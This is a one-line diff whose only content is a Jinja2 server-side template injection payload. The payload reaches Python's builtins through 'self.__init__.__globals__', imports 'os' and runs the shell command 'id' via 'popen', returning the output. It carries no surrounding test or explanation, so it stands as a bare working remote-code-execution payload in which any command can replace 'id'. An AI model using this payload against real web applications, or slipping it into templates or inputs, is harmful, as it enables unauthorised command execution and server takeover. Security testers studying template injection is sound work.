@@ -1,0 +1,1 @@
+{{ self.__init__.__globals__['__builtins__']['__import__']('os').popen('id').read() }}
